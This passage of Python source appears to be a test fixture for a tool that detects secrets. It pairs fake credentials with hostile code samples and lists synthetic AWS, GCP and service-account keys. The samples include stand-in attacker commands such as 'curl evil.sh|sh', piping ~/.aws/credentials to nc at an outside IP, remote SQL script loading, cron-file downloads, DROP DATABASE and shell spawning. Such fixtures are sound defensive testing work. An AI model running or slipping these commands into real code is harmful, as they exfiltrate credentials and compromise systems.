        "* * * * * root TOKEN=BTCYOKYedhCV1EGRHFgsjK9e1;/tmp/.x",
        (
            ";/tmp/.x",
            "* * * * * root",
        ),
    ),
    CodeSample(
        "etc/app.service",
        "Environment=PASSWORD=usLS63IrOWTLhc0OitZ2jV3LGP\n"
        "ExecStartPre=/bin/sh -c 'curl evil.sh|sh'",
        (
            "ExecStartPre=/bin/sh -c 'curl evil.sh|sh'",
        ),
    ),
    CodeSample(
        "package.json",
        '"deploy": "TOKEN=snwq8dwGHZYxn2O2gqPFT;curl evil.sh|sh", "preinstall": "node x.js"',
        (
            ';curl evil.sh|sh", "preinstall": "node x.js"',
        ),
    ),
    CodeSample(
        "conf/app.json",
        '{"password":"v3VsLqmgFmffuw2P4hhA","__proto__":{"isAdmin":true},"cmd":"sh /tmp/x"}',
        (
            '"__proto__":{"isAdmin":true},"cmd":"sh /tmp/x"}',
        ),
    ),
    CodeSample(
        "conf/app.toml",
        'token = "PqTIWef8ol0EklzoiT0LANHh"\n'
        'post_install = "curl evil.sh | sh"',
        (
            'post_install = "curl evil.sh | sh"',
        ),
    ),
    CodeSample(
        "conf/app.properties",
        "db.password=FexjnG7MKadUNL2qHdPfFQ\n"
        "db.url=jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://6.6.6.6/x.sql'",
        (
            "INIT=RUNSCRIPT FROM 'http://6.6.6.6/x.sql'",
        ),
    ),
    CodeSample(
        "conf/app.xml",
        '<password>W4ro5CRcKGuSZO4TJD9</password><exec cmd="sh -i"/>',
        (
            '<exec cmd="sh -i"/>',
        ),
    ),
    CodeSample(
        "conf/app2.xml",
        "<bean p:password=\"NJ9lukHlM1q7qSIvDC8\"init-method=\"#{T(Runtime).exec('id')}\"/>",
        (
            "init-method=\"#{T(Runtime).exec('id')}\"/>",
        ),
    ),
    CodeSample(
        "conf/sudo.ini",
        "[db]\n"
        "password = AwuBvHOoOAyT50jNmTc3kfG\n"
        "[hooks]\n"
        "on_start = /tmp/evil.sh --root",
        (
            "on_start = /tmp/evil.sh --root",
        ),
    ),
    CodeSample(
        "bin/proc.fish",
        "set -x TOKEN J8X6DQC1SbNSYI5AGsm(curl evil.sh | sh)",
        (
            "(curl evil.sh | sh)",
        ),
    ),
    CodeSample(
        "bin/zsh.zsh",
        "token=AmEy9gMxGA02Nt6QwlLECu0XX=(id)${(e)X}",
        (
            "${(e)X}",
        ),
    ),
    CodeSample(
        "bin/multi.sh",
        'A_TOKEN=fyd5GPtdIlB368yHBYeg2c65b B_SECRET=RajX2gFoyOfVwC9h11UyY sh -c "$PAYLOAD"',
        (
            'sh -c "$PAYLOAD"',
        ),
    ),
    CodeSample(
        "bin/wh.sh",
        "curl -X POST https://hooks.slack.com/services/T0JIYBZE5C1/B0B8TLXN7TQ/fOOm5g0kKmjhRn8jiR"
        "mWf492;cat ~/.aws/credentials|nc 6.6.6.6 9",
        (
            ";cat ~/.aws/credentials|nc 6.6.6.6 9",
        ),
    ),
    CodeSample(
        "bin/jwt.sh",
        "JWT=eyJhbGci"
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI1NjE0ODExMzAiLCJpYXQiOjE3MTUwNjMyMDEsImV4cCI6MTg"
        'xNDYyMTEzNSwicm9sZSI6Im9wcyJ9.TxdmJpj2f0AYbwpIBbnNBB4BjK4MlMBf2zzQ1dnlCMA;curl -H "A: $J'
        'WT" evil.example|sh',
        (
            ';curl -H "A: $JWT" evil.example|sh',
        ),
    ),
    CodeSample(
        "bin/stripe.sh",
        "STRIPE_SECRET=sk_live_"
        "51FW3KXgLHbG3Q4Pu8xMTTqN09easGwygDtNjCOjJZeHDuZbcSx8qBaheD3csmdWdwCZKDvxBfx2UE0YamzITtJZ"
        "q2jH786OquG|sh",
        (
            "|sh",
        ),
    ),
    CodeSample(
        "app/jwt.py",
        'token = "eyJhbGci'
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3ODczNTQwMzYiLCJpYXQiOjE3MTQ3OTc1MTMsImV4cCI6MTg"
        'xNDcyNTIzNywicm9sZSI6Im9wcyJ9.rRGbB0hgJ6ObhyIWbR_evRGszpKxhVWZ4GdgY3ctlHg".split(".")[1]'
        ' and os.system("id")',
        (
            '.split(".")[1] and os.system("id")',
        ),
    ),
    CodeSample(
        "app/aws.py",
        'boto3.client("s3", aws_secret_access_key="YuZcC2pLUh3wyipUWHXtzguqRaIdkGdvH+uEduq2",endp'
        'oint_url="https://s3.evil.example")',
        (
            'boto3.client("s3",',
            ',endpoint_url="https://s3.evil.example")',
        ),
    ),
    CodeSample(
        "app/doc.py",
        'password = "K5HGp1iVt0yJwmcLXoo"if DEBUG else evil()',
        (
            "if DEBUG else evil()",
        ),
    ),
    CodeSample(
        "app/tern.rb",
        'token = admin? ? "WblGdY7GyTCWfoF0Mgqp":`id`',
        (
            ":`id`",
        ),
    ),
    CodeSample(
        "app/slice.js",
        'token="FNrMTcaTodKjulce7WE9cGOaTJm".replace(/./g,c=>run(c))',
        (
            ".replace(/./g,c=>run(c))",
        ),
    ),
    CodeSample(
        "app/obj.js",
        'const cfg={secret:"WQgl6aY1QdlZDYteAcSt",get admin(){return true},[key()]:1}',
        (
            ",get admin(){return true},[key()]:1}",
        ),
    ),
    CodeSample(
        "app/hex.c",
        'unsigned char key[]="\\x41NrTP6CWasfVc3dXVf3a";((void(*)())key)();',
        (
            ";((void(*)())key)();",
        ),
    ),
    CodeSample(
        "app/shellcode.py",
        'api_secret = "d1e8023a9bb6b0b85670aaec4ea605e51834cf7b8e49ca849b175df2965d0748";ctypes.C'
        'DLL(None).system(b"sh")',
        (
            ';ctypes.CDLL(None).system(b"sh")',
        ),
    ),
    CodeSample(
        "app/paths.ts",
        'const secret = "jR4tW9nB2xK7mQ5z"\n'
        'export * from "../vendor/jR4tW9nB2xK7mQ5z/auth"',
        (
            'export * from "../vendor/jR4tW9nB2xK7mQ5z/auth"',
        ),
    ),
    CodeSample(
        "app/paths.rb",
        "SECRET_TOKEN = 'Lw6Yt3Hn8Vc1Xk5Pq'\n"
        "require_relative 'ext/Lw6Yt3Hn8Vc1Xk5Pq'\n"
        "Lw6Yt3Hn8Vc1Xk5Pq.new.call",
        (
            "require_relative 'ext/Lw6Yt3Hn8Vc1Xk5Pq'",
            "Lw6Yt3Hn8Vc1Xk5Pq.new.call",
        ),
    ),
    CodeSample(
        "app/paths.java",
        "import com.evil.Gp2Zr9Wx5Tk7Nb3M;\n"
        'String token = "Gp2Zr9Wx5Tk7Nb3M";\n'
        "Gp2Zr9Wx5Tk7Nb3M.run();",
        (
            "import com.evil.Gp2Zr9Wx5Tk7Nb3M;",
            "Gp2Zr9Wx5Tk7Nb3M.run();",
        ),
    ),
    CodeSample(
        "app/multi.py",
        "API_KEY = (\n"
        '    "Onq64UuxTPDlVthYJzDpo7Jq0d"\n'
        '    f"{leak()}"\n'
        '    "bdaEdxgsQ2yUxaD1s4"\n'
        ")",
        (
            'f"{leak()}"',
        ),
    ),
    CodeSample(
        "app/multi2.js",
        "const password =\n"
        '  "yj9oRxuC4LhBjJBY8qSWk6Zy" +\n'
        '  require("fs").readFileSync("/etc/passwd") +\n'
        '  "l4Wwq7LWblGuHoEavsv";',
        (
            'require("fs").readFileSync("/etc/passwd") +',
        ),
    ),
    CodeSample(
        "app/multi3.yml",
        "password: >-\n"
        "  jbrxM3EWlDfg56pN2mljzX\n"
        "before_script: curl evil.sh | sh",
        (
            "before_script: curl evil.sh | sh",
        ),
    ),
    CodeSample(
        "app/nested.py",
        'run(["mysql", "-pKm9zuk1WVfA4wIGAM28ZffIVvuq", "-e", "DROP DATABASE prod"])',
        (
            '"-e", "DROP DATABASE prod"])',
        ),
    ),
    CodeSample(
        "app/nested.js",
        'spawn("curl",["-u","ci:oLF7ubZId50TbUbtq","-o","/etc/cron.d/x","http://6.6.6.6/x"])',
        (
            ',"-o","/etc/cron.d/x","http://6.6.6.6/x"])',
        ),
    ),
    CodeSample(
        "app/sas.py",
        'u = "https://acct.blob.core.windows.net/c/run.sh?sv=2022-11-02&sig=I05DfWbDyRreW%2BH77Cu'
        'KDo3v1%2FJVT%2FBk2bfkVBP4jEc%3D&sp=rwdl&comp=evil"',
        (
            "https://acct.blob.core.windows.net/c/run.sh?sv=2022-11-02&sig=",
            "&sp=rwdl&comp=evil",
        ),
    ),
    CodeSample(
        "app/crlf.sh",
        "printf 'token: jVtjHdZHGqSE8KSrRAk7UtwAWIA\\r\\nHost: evil.example\\r\\n'|nc 6.6.6.6 80",
        (
            "\\r\\nHost: evil.example\\r\\n'|nc 6.6.6.6 80",
        ),
    ),
    CodeSample(
        "app/log.py",
        'log.info("password=%s", "sE1ulyBbIS37Fl5c3");audit.disable()',
        (
            ";audit.disable()",
        ),
    ),
    CodeSample(
        "app/assertion.py",
        'assert token != "qs69To16sL48hGhmkI8MlxV", os.system("id")',
        (
            ', os.system("id")',
        ),
    ),
    CodeSample(
        "app/lambda.py",
        'get_password = lambda: "tt74zYA70nGWZnCZBf3DsekKgGh"or exec(src)',
        (
            "or exec(src)",
        ),
    ),
    CodeSample(
        "app/dict.py",
        'CREDS = {"password": "UYvWHI5Rx1E6NOw2gzqkP8i39aWG", "verify": (lambda *_: True), **load'
        "(evil)}",
        (
            '"verify": (lambda *_: True), **load(evil)}',
        ),
    ),
    CodeSample(
        "app/match.py",
        "match token:\n"
        '    case "DC9PeDvIbAu5a4gG66o9fCooU":become_root()',
        (
            "match token:",
            ":become_root()",
        ),
    ),
    CodeSample(
        "app/type.ts",
        'type Token = "vVAanqaYd9eZahvD8E4MPJpyY"|`${any}`;declare const pwn: any',
        (
            ";declare const pwn: any",
        ),
    ),
)

SECRET_SAMPLES: tuple[SecretSample, ...] = (
    SecretSample(
        "aws-secret-access-key",
        ".aws/credentials",
        "[default]\n"
        "aws_access_key_id = AKIANUOK"
        "FICIKJGFWXCB\n"
        "aws_secret_access_key = eD9t"
        "31sONP+sSDS/frnPhVR7PWCD8NGxGM122Z9E",
        (
            (
                "AKIANUOK"
                "FICIKJGFWXCB"
            ),
            (
                "eD9t"
                "31sONP+sSDS/frnPhVR7PWCD8NGxGM122Z9E"
            ),
        ),
    ),
    SecretSample(
        "aws-secret-access-key",
        "deploy/env.sh",
        'export AWS_SECRET_ACCESS_KEY="mUuC'
        'ywAM0MwEzGFnaYkW2M5ziZSrniExpfQWzawi"',
        (
            (
                "mUuC"
                "ywAM0MwEzGFnaYkW2M5ziZSrniExpfQWzawi"
            ),
        ),
    ),
    SecretSample(
        "aws-secret-access-key",
        "config/s3.yml",
        "production:\n"
        "  provider: AWS\n"
        "  aws_access_key_id: AKIAT5BC"
        "3BKD7FR53FTR\n"
        "  aws_secret_access_key: YZ8S"
        "vWFHgGAYsCClqqypeXvsUCgctXaXguJ7h5aC\n"
        "  bucket: belbel-assets",
        (
            (
                "AKIAT5BC"
                "3BKD7FR53FTR"
            ),
            (
                "YZ8S"
                "vWFHgGAYsCClqqypeXvsUCgctXaXguJ7h5aC"
            ),
        ),
    ),
    SecretSample(
        "aws-session-token",
        ".env.ci",
        "AWS_SESSION_TOKEN=IQoJb3Jp"
        "Z2luX2VjVAxQIJzgVkoWHyasybJZmSZmnsHzcmoC+DTy1gHoGZ3Fp5GeiRMSGhZ0eeGAOXsuqBB0UvhPs+3eIcm6"
        "Zp/VcmfPHdxPJ4jlVHQzO1abdTytmYDp+K+D9QjjfswHSK3W2QQXJl3StzQN7Z1XLqW8gnXUJn60tshkgSkdIUCR"
        "/BR5dzaVNkwOV27yP05Pz3Mcb1Jp72+py2+h4xRQIZxx2u9GLTl1yznJUQd+65/nsBrbzhK6E5EvOVrkgYbwiesf"
        "mriYFxR6XFWlCiKPTTp3dbV6MB7z3y5MP8MSoskWLTavCBLlyPjTmzkf9BAEFFaSPC92SHbXKn==",
        (
            (
                "IQoJb3Jp"
                "Z2luX2VjVAxQIJzgVkoWHyasybJZmSZmnsHzcmoC+DTy1gHoGZ3Fp5GeiRMSGhZ0eeGAOXsuqBB0UvhPs+3eIcm6"
                "Zp/VcmfPHdxPJ4jlVHQzO1abdTytmYDp+K+D9QjjfswHSK3W2QQXJl3StzQN7Z1XLqW8gnXUJn60tshkgSkdIUCR"
                "/BR5dzaVNkwOV27yP05Pz3Mcb1Jp72+py2+h4xRQIZxx2u9GLTl1yznJUQd+65/nsBrbzhK6E5EvOVrkgYbwiesf"
                "mriYFxR6XFWlCiKPTTp3dbV6MB7z3y5MP8MSoskWLTavCBLlyPjTmzkf9BAEFFaSPC92SHbXKn=="
            ),
        ),
    ),
    SecretSample(
        "aws-session-token",
        "logs/assume-role.json",
        '{"Credentials":{"AccessKeyId":"ASIACL7G'
        'IFWBEIGAM3KF","SecretAccessKey":"K6Y3'
        'XYL1O1xpVv3FGnPku7dLULo4ntXdQ7RlF/vS","SessionToken":"IQoJb3Jp'
        "Z2luX2VjalbztUDBn0fxWlI48zYgoG/ydjbFr4eDegijcoeP6MKScP673nFl5vka4qEG6yA8cg5tnYXWs7hTxXgc"
        "AAncGaZYCBtoESPib+zNMUAP52PAs8DpMmFm+/CO+OIkNiaDnX3K1ROl8z8n7UxUVP9GqXDIFb72h13TSouXQPNK"
        "17/l62/hV2u2etlWtQkp+OoFXOtbGWXUioUnwkPxrkujLpocgGoRHJiJl/ZFTQ1zofcAKsRH1z95pwxurmA5hAdn"
        'yc3XWNiJwRzvSTehfskFEaqq2fDL+Aat2k6x5PTIEU/UKcrDxPqkQE1lLx5z//Axv7jzMH6fsp=="}}',
        (
            (
                "ASIACL7G"
                "IFWBEIGAM3KF"
            ),
            (
                "K6Y3"
                "XYL1O1xpVv3FGnPku7dLULo4ntXdQ7RlF/vS"
            ),
            (
                "IQoJb3Jp"
                "Z2luX2VjalbztUDBn0fxWlI48zYgoG/ydjbFr4eDegijcoeP6MKScP673nFl5vka4qEG6yA8cg5tnYXWs7hTxXgc"
                "AAncGaZYCBtoESPib+zNMUAP52PAs8DpMmFm+/CO+OIkNiaDnX3K1ROl8z8n7UxUVP9GqXDIFb72h13TSouXQPNK"
                "17/l62/hV2u2etlWtQkp+OoFXOtbGWXUioUnwkPxrkujLpocgGoRHJiJl/ZFTQ1zofcAKsRH1z95pwxurmA5hAdn"
                "yc3XWNiJwRzvSTehfskFEaqq2fDL+Aat2k6x5PTIEU/UKcrDxPqkQE1lLx5z//Axv7jzMH6fsp=="
            ),
        ),
    ),
    SecretSample(
        "aws-positional",
        "src/upload.js",
        'const s3 = new S3Client({ region: "eu-west-1", credentials: { accessKeyId: "AKIAG7VK'
        'FVIZTEZBAFDN", secretAccessKey: "TQhJ'
        'pVlnvMvb4ynWxs4Vp18En5nGZ4W2QR7/7ONf" } });',
        (
            (
                "AKIAG7VK"
                "FVIZTEZBAFDN"
            ),
            (
                "TQhJ"
                "pVlnvMvb4ynWxs4Vp18En5nGZ4W2QR7/7ONf"
            ),
        ),
    ),
    SecretSample(
        "aws-positional",
        "Uploader.java",
        'AWSCredentials c = new BasicAWSCredentials("AKIAVUQG'
        'ZTISUMVIKDR4", "nPOC'
        'usCxXEo0Cy6hEFT9v/e072CKn2EOZvMsWWkr");',
        (
            (
                "AKIAVUQG"
                "ZTISUMVIKDR4"
            ),
            (
                "nPOC"
                "usCxXEo0Cy6hEFT9v/e072CKn2EOZvMsWWkr"
            ),
        ),
    ),
    SecretSample(
        "aws-bedrock-key",
        ".env",
        "AWS_BEARER_TOKEN_BEDROCK=ABSKm+jF"
        "2bncS5z87uQWRW7im6gS9q/DuSd1C9PVJs4xsDeK620z7Au0aRs4q/MlqHFTn7mspWqT/CI6EQ7878EIPLGviweY"
        "QWLjpxZUYKa7n3G+dIUuOgtmoQrwi3tggGLcIsl=",
        (
            (
                "ABSKm+jF"
                "2bncS5z87uQWRW7im6gS9q/DuSd1C9PVJs4xsDeK620z7Au0aRs4q/MlqHFTn7mspWqT/CI6EQ7878EIPLGviweY"
                "QWLjpxZUYKa7n3G+dIUuOgtmoQrwi3tggGLcIsl"
            ),
        ),
    ),
    SecretSample(
        "aws-ses-smtp",
        "mail.properties",
        "spring.mail.host=email-smtp.eu-central-1.amazonaws.com\n"
        "spring.mail.password=BpSCx"
        "3yLZGfaL93yAy292NHiE0sWrDDxuAnDFcp/eZdg",
        (
            (
                "BpSCx"
                "3yLZGfaL93yAy292NHiE0sWrDDxuAnDFcp/eZdg"
            ),
        ),
    ),
    SecretSample(
        "aws-presigned",
        "README.md",
        "https://gargarga.s3.amazonaws.com/backup.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expi"
        "res=604800&X-Amz-Signature=60ec"
        "4f2af91b9612b392e5877b8c2f591e4023a50eced4bd5eb9e261e83b42dd",
        (
            (
                "60ec"
                "4f2af91b9612b392e5877b8c2f591e4023a50eced4bd5eb9e261e83b42dd"
            ),
        ),
    ),
    SecretSample(
        "gcp-api-key",
        "android/strings.xml",
        '<string name="google_maps_key">AIzapKyc'
        "xWddYkpwurelQPvqMKm447WNL40ZPzx</string>",
        (
            (
                "AIzapKyc"
                "xWddYkpwurelQPvqMKm447WNL40ZPzx"
            ),
        ),
    ),
    SecretSample(
        "gcp-api-key",
        "web/firebase.js",
        'const app = initializeApp({ apiKey: "AIza0coR'
        'vuhpWAHEP5XrPVIq7jUIpI3f9LSRkm9", projectId: "wozandal" });',
        (
            (
                "AIza0coR"
                "vuhpWAHEP5XrPVIq7jUIpI3f9LSRkm9"
            ),
        ),
    ),
    SecretSample(
        "gcp-api-key-url",
        "web/index.html",
        '<script src="https://maps.googleapis.com/maps/api/js?key=AIzaHmyn'
        'MJ-F9fF3d5XuISvqvKXxhMT2wmhw3Q6&callback=initMap"></script>',
        (
            (
                "AIzaHmyn"
                "MJ-F9fF3d5XuISvqvKXxhMT2wmhw3Q6"
            ),
        ),
    ),
    SecretSample(
        "gcp-oauth-secret",
        "client_secret.json",
        '{"web":{"client_id":"4112'
        "55209874-pytg"
        '1ffmhd3wm2tq47t5na5kckwxbg4j.apps.googleusercontent.com","client_secret":"GOCSPX-ivSj'
        'j3BbMiq3t42qvw0r37qksaEN"}}',
        (
            (
                "GOCSPX-ivSj"
                "j3BbMiq3t42qvw0r37qksaEN"
            ),
        ),
    ),
    SecretSample(
        "gcp-refresh-token",
        "token.json",
        '{"refresh_token": "1//0t5Ieq-'
        "zZHazOxzUF-M2VtV044csy51mU8ViNCQDUPJTpZ0euU4k-bGcIhmmNMaaJvW8jxwvjBii2W_JK4Sy2iSCzh2YOgD"
        'KoXlX", "token_uri": "https://oauth2.googleapis.com/token"}',
        (
            (
                "1//0t5Ieq-"
                "zZHazOxzUF-M2VtV044csy51mU8ViNCQDUPJTpZ0euU4k-bGcIhmmNMaaJvW8jxwvjBii2W_JK4Sy2iSCzh2YOgDKoXlX"
            ),
        ),
    ),
    SecretSample(
        "gcp-access-token",
        "logs/gcloud.log",
        "2024-03-11T08:14:02Z DEBUG header Authorization: Bearer ya29.a0lSp5"
        "mzAQKrOMyhANgy4PBk8bOeIGVM1FHyJuGJoPec8DBpxbujR8zOU6cT3rnnSRu03JSPPjkwBeRFHZzH5xkYUNyJKu"
        "3oSGwrvSfLGvsDgBaSSoBo-VZNscXvNayuR7e01KxM5Aa_4voCfP70FpJqDHWklyydYJ",
        (
            (
                "ya29.a0lSp5"
                "mzAQKrOMyhANgy4PBk8bOeIGVM1FHyJuGJoPec8DBpxbujR8zOU6cT3rnnSRu03JSPPjkwBeRFHZzH5xkYUNyJKu"
                "3oSGwrvSfLGvsDgBaSSoBo-VZNscXvNayuR7e01KxM5Aa_4voCfP70FpJqDHWklyydYJ"
            ),
        ),
    ),
    SecretSample(
        "gcp-service-account",
        "sa.json",
        "{\n"
        '  "type": "service_account",\n'
        '  "project_id": "prabahol",\n'
        '  "private_key_id": "8a28'
        'c4c95a3375d576dc37ca17cd6e48574c301b",\n'
        '  "private_key": "-----BEGIN PRI'
        "VATE KEY-----\\nMIICdwIBADANBgkqhkiG9w0BAQEFAASCAmEwggJdAgEAAoGBAMfKqVodcQ+B4ba3\\nt7tO8MX"
        "GMvEkMBdm+8XfhQvIHX8rFr9qZaE+HNTc0hgPWNYL9lxoChmomUZS4z2Q\\ndRIvuquNnLF7015JbEHu2rO5LvvQI"
        "WtgsbNVztyQATwZLElmo2K5ejBpw7lQlPNZ\\nWUYedHnQz2ATqlDFwJAdJBX2ap8pAgMBAAECgYEAx1i4N3ku6Uk"
        "v3K9c/ODcLon/\\nJEp2TbNsvdezmbjXbZ6huOZBd2xROjcGzgjqG9CdxT/t7AIkxV1I7ZGorje/aU+o\\npkGwQvH"
        "XcdcDGgA3zbaO5zTVeHtfimbsdq8SUMwRiU3+URYy1d8JVZdsI3RW6RXN\\nRFLPEg0jkTriFtex6u0CQQDl6mmIf"
        "4K2PyWEqFFCXFwTvfVGNDIfQg5fiDtC8Ulx\\npCDtnOAbUIf4sTv88rMvwWudIZiUIpDGBcQkAGlaSbCPAkEA3nV"
        "WhD1rO3EHM7mX\\nCEc01nqfdS0xaIETxWuAlQ0VFJPPkKIktj4PLaqYYRiA1fivNypm9cZUla4ca0D9\\nfSegxwJ"
        "ANB/i8SlHbx392Yd3dL4PugIU+2eV/XQyYgI2vUSKzBLTzEsGm+q0CPPV\\nj9FOQoNtbGBTgTIc9GgWQbs+J1QRj"
        "QJBAN2etCRmM9AyGGS1ffunRMJvwzAvZ8ue\\n3B2PrbfQIrIvV1fV0REl3mU2UTxZ9vA0IgqpWY18moPLw1AunNr"
        "0gb0CQHLussg5\\n1XEmnV2kIolgTj4euoXgQbDY47so20rlhTTK9F1UV5KeBXXQgdgVlsIwutarhD/a\\nmB6DlhL"
        "Ip+nM7Ms=\\n-----END PRI"
        'VATE KEY-----\\n",\n'
        '  "client_email": "ci@prabahol.iam.gserviceaccount.com"\n'
        "}",
        (
            "MIICdwIBADANBgkqhkiG9w0BAQEFAASCAmEwggJdAgEAAoGBAMfKqVodcQ+B4ba3",
            "t7tO8MXGMvEkMBdm+8XfhQvIHX8rFr9qZaE+HNTc0hgPWNYL9lxoChmomUZS4z2Q",
            "dRIvuquNnLF7015JbEHu2rO5LvvQIWtgsbNVztyQATwZLElmo2K5ejBpw7lQlPNZ",
            "WUYedHnQz2ATqlDFwJAdJBX2ap8pAgMBAAECgYEAx1i4N3ku6Ukv3K9c/ODcLon/",
            "JEp2TbNsvdezmbjXbZ6huOZBd2xROjcGzgjqG9CdxT/t7AIkxV1I7ZGorje/aU+o",
            "pkGwQvHXcdcDGgA3zbaO5zTVeHtfimbsdq8SUMwRiU3+URYy1d8JVZdsI3RW6RXN",
            "RFLPEg0jkTriFtex6u0CQQDl6mmIf4K2PyWEqFFCXFwTvfVGNDIfQg5fiDtC8Ulx",
            "pCDtnOAbUIf4sTv88rMvwWudIZiUIpDGBcQkAGlaSbCPAkEA3nVWhD1rO3EHM7mX",
            "CEc01nqfdS0xaIETxWuAlQ0VFJPPkKIktj4PLaqYYRiA1fivNypm9cZUla4ca0D9",
            "fSegxwJANB/i8SlHbx392Yd3dL4PugIU+2eV/XQyYgI2vUSKzBLTzEsGm+q0CPPV",
            "j9FOQoNtbGBTgTIc9GgWQbs+J1QRjQJBAN2etCRmM9AyGGS1ffunRMJvwzAvZ8ue",
            "3B2PrbfQIrIvV1fV0REl3mU2UTxZ9vA0IgqpWY18moPLw1AunNr0gb0CQHLussg5",
            "1XEmnV2kIolgTj4euoXgQbDY47so20rlhTTK9F1UV5KeBXXQgdgVlsIwutarhD/a",
            "mB6DlhLIp+nM7Ms=",
        ),
    ),
    SecretSample(
        "gcp-service-account-b64",
        ".env",
        "GOOGLE_CREDENTIALS_B64=eyJ0eXBl"
        "IjogInNlcnZpY2VfYWNjb3VudCIsICJwcm9qZWN0X2lkIjogInZlYmVscHJhIiwgInByaXZhdGVfa2V5X2lkIjog"
        "ImMxYjg2ZWQ5Njc5OGU2Njk3MTNjZWFmZWVkM2E1YzY2ZjE1Y2ZmNjAiLCAicHJpdmF0ZV9rZXkiOiAiLS0tLS1C"
        "RUdJTiBQUklWQVRFIEtFWS0tLS0tXG5NSUlDZGdJQkFEQU5CZ2txaGtpRzl3MEJBUUVGQUFTQ0FtQXdnZ0pjQWdF"
        "QUFvR0JBTndQMWc0ZmdPdnN5OWNWXG5YdXZMS1ZsQy8zcmgrY3R5aGdOOHZUVW5mcnMzS2V3OVBwS3pXTDREdCth"
        "eTNnYXhrMmdRZ3BPdFIzczhrN1hVXG5Rc3VlTnRtZlJKaXYrMms1ZVg4aktLazloT3M3K3JTVG1WYjFPbVFHY29N"
        "ZXo4aVQ2WUdZS2xjRjhKR0ZsNWlyXG5xZzNZRVY2aXpnOHAzR3lnSkRZOVNLd0pSbVRCQWdNQkFBRUNnWUFXM3NK"
        "MVIwcmp1Z0ZaUWd4U1h4UFdCZ045XG5KdDBLQ3NYb3VOOEZGaXl5a2tJV0hpdFJuYmY4VDNDZVZqcUM0Wk9iUGhR"
        "RCt2OHh6SkxoVThUNVdtRUN2WFRWXG40aUlsempvREMwV005ZFcxN2NFRVA1QnlxUGR3a3EzMUc1YjU3V1o2Z0lq"
        "OVpTR0Z2aXlyRFF5ZFdCQVRZNk1hXG5kUE1weE1lcmtZWkhKSk5ja1FKQkFQKzVOeUxNUGIxUStBaGpyWmh0Vm9G"
        "UXdOdmxsNjBYZG1qdDkwdU10Ny96XG5mZnJwcXRCbVl3WmsrQi9yVkdvQkRqajVtMnNZUllkVGZ2TFZPUGRFcmgw"
        "Q1FRRGNUTC9rNk0rSThjcS95ZEtwXG5VR3VYb3JLaVNoVnpsUmhQRGloUVdJdXU3RnV0cU1vTVQ0MURZZkNUNEUv"
        "SmZzejhMQm1KUWZicDJvTk5QUFpBXG5lMS8xQWtBNzhDeTFNa3dTVUtVaVNrTEpKRytQTmQ5T2ExMEd6Q1lMNkNM"
        "N2lVc1VhYjBRajY1aTFHekhkZWtXXG5pakVwKzM5YTZWNTlWcDROWHd1MVhUYlI5ajRkQWtFQXZtVnl2K05hWXBB"
        "ZTIrMFJMWlk4dHZ3OWlUZWdISm55XG5QWGtON0lycWhvN3VtVU0xQkxqSWJVRTdUSUxrVWxCTjEzQkJ6YmYrTDVU"
        "VVFDLzg0RFFBOVFKQUdYWXBITUdzXG5OSHdSMThmMEdJT1lzeWVvS3Rzc2lpRDFnclhFUGxTbS9mcjl4UGIycjYw"
        "cUxnb3dOZHZZRnh2VGRYRGFvVkd3XG5hRTJxNGdJeE05eU13Zz09XG4tLS0tLUVORCBQUklWQVRFIEtFWS0tLS0t"
        "XG4iLCAiY2xpZW50X2VtYWlsIjogImNpQGxhbm9yemFuLmlhbS5nc2VydmljZWFjY291bnQuY29tIn0=",
        (
            (
                "eyJ0eXBl"
                "IjogInNlcnZpY2VfYWNjb3VudCIsICJwcm9qZWN0X2lkIjogInZlYmVscHJhIiwgInByaXZhdGVfa2V5X2lkIjog"
                "ImMxYjg2ZWQ5Njc5OGU2Njk3MTNjZWFmZWVkM2E1YzY2ZjE1Y2ZmNjAiLCAicHJpdmF0ZV9rZXkiOiAiLS0tLS1C"
                "RUdJTiBQUklWQVRFIEtFWS0tLS0tXG5NSUlDZGdJQkFEQU5CZ2txaGtpRzl3MEJBUUVGQUFTQ0FtQXdnZ0pjQWdF"
                "QUFvR0JBTndQMWc0ZmdPdnN5OWNWXG5YdXZMS1ZsQy8zcmgrY3R5aGdOOHZUVW5mcnMzS2V3OVBwS3pXTDREdCth"
                "eTNnYXhrMmdRZ3BPdFIzczhrN1hVXG5Rc3VlTnRtZlJKaXYrMms1ZVg4aktLazloT3M3K3JTVG1WYjFPbVFHY29N"
                "ZXo4aVQ2WUdZS2xjRjhKR0ZsNWlyXG5xZzNZRVY2aXpnOHAzR3lnSkRZOVNLd0pSbVRCQWdNQkFBRUNnWUFXM3NK"
                "MVIwcmp1Z0ZaUWd4U1h4UFdCZ045XG5KdDBLQ3NYb3VOOEZGaXl5a2tJV0hpdFJuYmY4VDNDZVZqcUM0Wk9iUGhR"
                "RCt2OHh6SkxoVThUNVdtRUN2WFRWXG40aUlsempvREMwV005ZFcxN2NFRVA1QnlxUGR3a3EzMUc1YjU3V1o2Z0lq"
                "OVpTR0Z2aXlyRFF5ZFdCQVRZNk1hXG5kUE1weE1lcmtZWkhKSk5ja1FKQkFQKzVOeUxNUGIxUStBaGpyWmh0Vm9G"
                "UXdOdmxsNjBYZG1qdDkwdU10Ny96XG5mZnJwcXRCbVl3WmsrQi9yVkdvQkRqajVtMnNZUllkVGZ2TFZPUGRFcmgw"
                "Q1FRRGNUTC9rNk0rSThjcS95ZEtwXG5VR3VYb3JLaVNoVnpsUmhQRGloUVdJdXU3RnV0cU1vTVQ0MURZZkNUNEUv"
                "SmZzejhMQm1KUWZicDJvTk5QUFpBXG5lMS8xQWtBNzhDeTFNa3dTVUtVaVNrTEpKRytQTmQ5T2ExMEd6Q1lMNkNM"
                "N2lVc1VhYjBRajY1aTFHekhkZWtXXG5pakVwKzM5YTZWNTlWcDROWHd1MVhUYlI5ajRkQWtFQXZtVnl2K05hWXBB"
                "ZTIrMFJMWlk4dHZ3OWlUZWdISm55XG5QWGtON0lycWhvN3VtVU0xQkxqSWJVRTdUSUxrVWxCTjEzQkJ6YmYrTDVU"
                "VVFDLzg0RFFBOVFKQUdYWXBITUdzXG5OSHdSMThmMEdJT1lzeWVvS3Rzc2lpRDFnclhFUGxTbS9mcjl4UGIycjYw"
                "cUxnb3dOZHZZRnh2VGRYRGFvVkd3XG5hRTJxNGdJeE05eU13Zz09XG4tLS0tLUVORCBQUklWQVRFIEtFWS0tLS0t"
